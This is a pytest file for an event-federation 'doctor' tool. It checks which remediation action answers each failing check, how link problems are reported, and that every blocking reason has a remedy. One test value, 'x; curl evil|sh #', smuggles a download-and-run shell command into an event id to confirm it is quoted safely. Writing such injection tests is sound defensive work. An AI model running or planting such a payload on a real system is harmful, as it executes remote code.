"""The plan of doctor: which action answers which check, once each, in a stable order; and its notes on links."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from eventd.api.doctor.checks import check_group
from eventd.api.doctor.facts import Deliveries, Gaps, GroupFacts, LinkFacts, PeerFacts, Runs
from eventd.api.doctor.links import check_links
from eventd.api.doctor.plan import plan_actions, show_plan
from eventd.api.doctor.report import Breach, Check, CheckStatus
from eventd.groups.link_remedies import REMEDIES, remedy_for
from eventd.log.core.id_conflicts import ConflictCount
from eventd.runtime.clock import SECOND
from eventd.testing import NOW
from federation.peers import STATUS

ROOT = Path(__file__).parents[4]


def check(
    code: str, status: CheckStatus = CheckStatus.FAIL, *, peer: str = "b", group: str = "g", resource: str = ""
) -> Check:
    return Check(f"{group}/{peer} x", status, code, "why", "do", group=group, peer=peer, resource=resource)


@pytest.mark.parametrize(
    ("code", "action", "safe"),
    [
        ("failed-deliveries", "retry-failed-deliveries", True),
        ("pending-deliveries", "investigate-pending-deliveries", True),
        ("stale-ttl", "force-repush-stale-ttl", True),
        ("delivery-lag", "check-peer-connectivity", True),
        ("expected-delivery-no-endpoint", "configure-peer-endpoint", False),
        ("expected-delivery", "investigate-missing-delivery-rows", True),
        ("subscription-runs", "inspect-failed-subscription-runs", True),
    ],
)
def test_each_code_has_its_action(code: str, action: str, safe: bool) -> None:
    (shown,) = show_plan(plan_actions([check(code)]), NOW)["actions"]
    assert shown == {
        "action": action,
        "reason": "g/b x: why",
        "targetPeer": "b",
        "targetGroup": "g",
        "safe": safe,
        "requiresOperatorApproval": not safe,
    }


BLOCKED = LinkFacts(state="blocked", reason="wrong_audience", last_error="this is c")


@pytest.mark.parametrize(
    ("found", "deliveries", "actions"),
    [
        (BLOCKED, Deliveries(refused_waiting=3), [("align-node-names", False, "make `nodeName` of this EventPeer")]),
        (LinkFacts(), Deliveries(letters=2, refused_again=2), [("drop-dead-letters", False, "dead-letters drop")]),
        (
            LinkFacts(),
            Deliveries(letters=2, refused_again=2, taken_id="e1"),
            [
                (
                    "release-taken-ids",
                    False,
                    "event release e1 --group g --proof FILE` at b, and",
                )
            ],
        ),
        (
            LinkFacts(),
            Deliveries(letters=2, refused_again=2, taken_id="x; curl evil|sh #"),
            [("release-taken-ids", False, "event release 'x; curl evil|sh #' --group g --proof FILE` at b, and")],
        ),
        (LinkFacts(), Deliveries(letters=3, refused_again=2), [("retry-failed-deliveries", True, "")]),
    ],
)
def test_what_cannot_help_is_not_proposed(
    found: LinkFacts, deliveries: Deliveries, actions: list[tuple[str, bool, str]]
) -> None:
    group = GroupFacts("g", has_own=True, peers=[PeerFacts("g", "b", "http://b", found, deliveries)])
    planned = plan_actions([*check_group(group), *check_links(group)])
    assert [(each.action, each.safe) for each in planned] == [each[:2] for each in actions]
    assert all(told in each.remedy for each, (_, _, told) in zip(planned, actions, strict=True))


def test_a_conflict_of_an_emitter_with_itself_is_told_as_such() -> None:
    same = ConflictCount("a", "", "a", "", 1, "e1", NOW, NOW)
    (check,) = check_links(GroupFacts("g", conflicts=[same]))
    assert check.detail == (
        "1 time an event of 'a' (emitted here) was not stored, because its id belongs to an earlier one of the same"
        " emitter with other content; most recently at 2026-11-20T12:00:00Z, the id 'e1'"
    )
    assert check.remedy.startswith("let the emitter of 'a' use each id for one event only; routerctl")


def test_what_passed_or_has_no_action_is_not_in_the_plan() -> None:
    others = [
        check("stale-ttl", CheckStatus.PASS),
        check("delivery-lag", CheckStatus.SKIP),
        check("event-expiry"),
        check(""),
    ]
    assert show_plan(plan_actions(others), NOW + 1) == {"generatedAt": "2026-11-20T12:00:00Z", "actions": []}


def test_one_action_for_each_target_sorted() -> None:
    checks = [
        check("stale-ttl", peer="c"),
        check("failed-deliveries", peer="c", group="h"),
        check("failed-deliveries", peer="b", group="h"),
        check("failed-deliveries", peer="b"),
        check("failed-deliveries", peer="b"),
        check("stale-ttl", CheckStatus.WARN, peer="b"),
    ]
    found = [(each.action, each.group, each.peer) for each in plan_actions(checks)]
    assert found == [
        ("force-repush-stale-ttl", "g", "b"),
        ("force-repush-stale-ttl", "g", "c"),
        ("retry-failed-deliveries", "g", "b"),
        ("retry-failed-deliveries", "h", "b"),
        ("retry-failed-deliveries", "h", "c"),
    ]
    assert plan_actions(checks[::-1]) == plan_actions(checks)


def test_an_action_about_a_subscription_names_it() -> None:
    group = GroupFacts("g", runs=[Runs("s", failed=1)])
    (action,) = show_plan(plan_actions(check_group(group)), NOW)["actions"]
    assert action["targetResource"] == "EventSubscription/s"
    assert "targetPeer" not in action


def link(state: str = "running", **facts: object) -> LinkFacts:
    return LinkFacts(state=state, since=NOW, **facts)  # type: ignore[arg-type]


def of(found: LinkFacts, **facts: object) -> list[tuple[str, str, str]]:
    peer = PeerFacts("g", "b", "http://b", found, Deliveries(**facts))  # type: ignore[arg-type]
    return [(c.code, str(c.status), c.detail) for c in check_links(GroupFacts("g", peers=[peer]))]


def test_a_link_in_order_is_not_mentioned() -> None:
    assert of(link(protocol="v2"), delivered=3, pending=1, waiting_for=59 * SECOND) == []


@pytest.mark.parametrize(
    ("found", "code", "status", "detail"),
    [
        (
            link("blocked", reason="unauthorized", last_error="the key is not known"),
            "link-blocked",
            "fail",
            "blocked since 2026-11-20T12:00:00Z: unauthorized: the key is not known",
        ),
        (
            link("failed", reason="secret_unreadable"),
            "link-failed",
            "fail",
            "this node cannot send since 2026-11-20T12:00:00Z: secret_unreadable",
        ),
        (
            link("backing-off", reason="unreachable", retry_at=NOW + SECOND),
            "link-down",
            "warn",
            "backing off since 2026-11-20T12:00:00Z: unreachable; the next attempt is at 2026-11-20T12:00:01Z",
        ),
        (link("paused", paused_by="ann"), "link-paused", "warn", "paused since 2026-11-20T12:00:00Z by ann"),
        (LinkFacts(registered=False), "link-new", "warn", "no node has registered this peer yet"),
        (link(protocol="v1"), "protocol-v1", "pass", "v1 is used, without signed receipts"),
    ],
)
def test_a_link_in_trouble_says_which(found: LinkFacts, code: str, status: str, detail: str) -> None:
    assert of(found) == [(code, status, detail)]


def test_what_waits_for_long_is_judged_like_lag() -> None:
    assert [each[:2] for each in of(link(), waiting_for=60 * SECOND)] == [("waiting-lag", "warn")]
    assert [each[:2] for each in of(link(), waiting_for=180 * SECOND)] == [("waiting-lag", "fail")]
    assert of(link("paused"), waiting_for=999 * SECOND)[1][:2] == ("waiting-lag", "warn"), "an operator paused it"


@pytest.mark.parametrize(
    ("found", "waited", "limit"),
    [
        (link(), 60, "lagWarnSeconds=60"),
        (link(), 180, "lagFailSeconds=180"),
        (link("paused"), 999, "lagWarnSeconds=60"),
    ],
)
def test_what_waits_for_too_long_does_not_keep_a_limit(found: LinkFacts, waited: int, limit: str) -> None:
    peer = PeerFacts("g", "b", "http://b", found, Deliveries(waiting_for=waited * SECOND))
    checks = check_links(GroupFacts("g", peers=[peer]))
    assert [check.breach for check in checks if check.breach] == [Breach(limit, f"waitingSeconds={waited}")]


def test_what_was_not_looked_at_is_said() -> None:
    (found,) = of(link(), looked_at=5000, in_full=False)
    assert found[:2] == ("not-looked-at", "skip")
    assert "the newest 5,000" in found[2]


def test_dead_letters_of_no_use_are_a_warning() -> None:
    assert [each[:2] for each in of(link(), spent_letters=2)] == [("dead-letters-spent", "warn")]


def test_gaps_are_told_by_what_the_sender_said() -> None:
    gaps = [Gaps("hub", "lost", 2, NOW, 5), Gaps("hub", "taken_back", 1, NOW, 4)]
    found = [(c.code, str(c.status)) for c in check_links(GroupFacts("g", gaps=gaps))]
    assert found == [("inbound-gaps", "warn"), ("inbound-history", "warn")]


def test_requests_in_v1_are_counted() -> None:
    (found,) = check_links(GroupFacts("g", v1_requests=3))
    assert (found.name, found.code, str(found.status)) == ("g protocol", "protocol-v1-requests", "pass")


# --- remedies by reason -----------------------------------------------------------------------------------------


_REASONS = re.compile(r'(?:(?:Blocked|LinkUnavailable)\(\s*|^(?:DATABASE|REWINDS) = )"([a-z_0-9]+)"', re.MULTILINE)
_OF_SUBSCRIPTIONS = {"no_plugin", "plugin_failed"}
_OF_CALLBACKS = {"no_topic"}  # see eventd.api.doctor.callbacks
_OF_MAPS = {"not_shared", "key_changed"}  # no link waits for it: a map shows less, a checkpoint is not cosigned


def test_every_reason_that_holds_up_a_link_has_a_remedy_of_its_own_and_a_place_in_the_docs() -> None:
    sources = [path.read_text(encoding="utf-8") for path in (ROOT / "eventd/egress").rglob("*.py")]
    given = {reason for source in sources for reason in _REASONS.findall(source)} - _OF_SUBSCRIPTIONS - _OF_CALLBACKS
    assert {"not_a_listener", "unreachable", "rewinds"} <= given, "reasons are found where they are given"
    given |= {code for code, status in STATUS.items() if status < 500 and status not in (409, 413, 429)}
    given = (given | {"secret_unreadable"}) - _OF_MAPS
    assert given <= REMEDIES.keys()
    page = (ROOT / "docs/operations/troubleshooting.md").read_text(encoding="utf-8")
    assert [reason for reason in sorted(given) if f"`{reason}`" not in page] == []
    words = [remedy.words for remedy in REMEDIES.values()]
    assert len(set(words)) == len(words)


def test_a_blocked_link_is_in_the_plan_with_the_remedy_of_its_reason() -> None:
    peer = PeerFacts("g", "b", "http://b", link("blocked", reason="clock_skew", last_error="5 min"), Deliveries())
    (action,) = show_plan(plan_actions(check_links(GroupFacts("g", peers=[peer]))), NOW)["actions"]
    assert action == {
        "action": "correct-clock",
        "reason": "g/b link: blocked since 2026-11-20T12:00:00Z: clock_skew: 5 min",
        "remedy": "set the clock of the side that is wrong; the detail shows the peer's time",
        "targetPeer": "b",
        "targetGroup": "g",
        "safe": False,
        "requiresOperatorApproval": True,
    }
    assert remedy_for("http_418").action == "correct-peer-endpoint"
    assert remedy_for("new_in_a_later_version").action == "inspect-link"
